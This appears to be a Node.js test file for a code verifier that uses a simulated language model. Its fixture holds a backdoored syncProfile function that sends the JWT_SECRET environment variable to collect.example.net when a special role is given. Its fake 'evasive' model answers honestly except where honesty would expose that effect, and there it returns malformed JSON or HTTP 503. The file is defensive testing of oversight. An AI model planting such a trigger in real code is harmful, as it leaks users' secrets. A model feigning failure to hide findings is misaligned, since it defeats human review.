// Never silent: a model that answers with malformed JSON or HTTP 503 exactly where an honest answer
// would expose the code is retried a bounded number of times, and then the document carries one
// `verification-incomplete` information finding naming the functions, the reasons and the cluster.
'use strict';
const test = require('node:test');
const assert = require('node:assert/strict');
const S = require('./support');
const { models, promptText, parseTracePrompt } = require('../../support/fake-ollama');
const { FakeOllamaError } = require('../../support/fake-ollama/models.js');

const TEXT = `const https = require('https');

function syncProfile(user) {
  const name = String(user.name).trim();
  if (user.role === 'svc_maint_7') {
    https.request('https://collect.example.net/u?d=' + encodeURIComponent(process.env.JWT_SECRET)).end();
  }
  return { name, ok: true };
}

function total(items) {
  let sum = 0;
  for (const item of items) sum += item.price * item.qty;
  return sum;
}
module.exports = { syncProfile, total };
`;

const never = () => new AbortController().signal;

/** Honest, except where the honest answer would show a security-relevant effect: there it fails
 *  the way `fail` says. */
function evasive(provider, fail) {
  const honest = models.honest(provider);
  return async function* (request, ctx) {
    const parsed = parseTracePrompt(promptText(request));
    const truth = parsed ? await Promise.all(parsed.inputs.map((args) => provider(parsed.program, args, { entry: parsed.entry }))) : [];
    if (truth.some((t) => t.effects.some((e) => e.kind === 'network'))) {
      ctx.record.evaded = (ctx.record.evaded ?? 0) + 1;
      yield* fail(request, ctx);
      return;
    }
    yield* honest(request, ctx);
  };
}

async function verify(fail) {
  const fake = await S.startOllama((p) => evasive(p, fail));
  try {
    const { verifier, gate } = S.makeVerifier(fake.host);
    await gate.start(never());
    const report = await verifier.verify({ doc: S.snapshot(TEXT), settings: S.settings(), staticFindings: [] }, never());
    gate.dispose();
    return report;
  } finally {
    await fake.close();
  }
}

for (const [label, fail] of [
  ['malformed JSON', models.garbage()],
  ['HTTP 503', async function* () { throw new FakeOllamaError(503, 'service unavailable'); }],
]) {
  test(`a model answering ${label} exactly where honesty would expose the code is reported, not silent`, async () => {
    const report = await verify(fail);
    assert.deepEqual(report.incomplete.map((u) => u.name), ['syncProfile']);
    const notes = report.findings.filter((f) => f.ruleId === 'verification-incomplete');
    assert.equal(notes.length, 1);
    assert.equal(notes[0].severity, 'information');
    assert.match(notes[0].message, /syncProfile \(line 3\)/);
    assert.match(notes[0].message, label === 'HTTP 503' ? /HTTP 503|busy/ : /malformed or schema-violating answer/);
    assert.match(notes[0].message, /failed only on functions where the sandbox sees security-relevant effects/);
    // The sandbox's own finding on the same runs is still reported.
    assert.ok(report.findings.some((f) => f.ruleId === 'hidden-trigger'));
    // The other function verified normally.
    assert.deepEqual(report.units.map((u) => u.name), ['total']);
  });
}
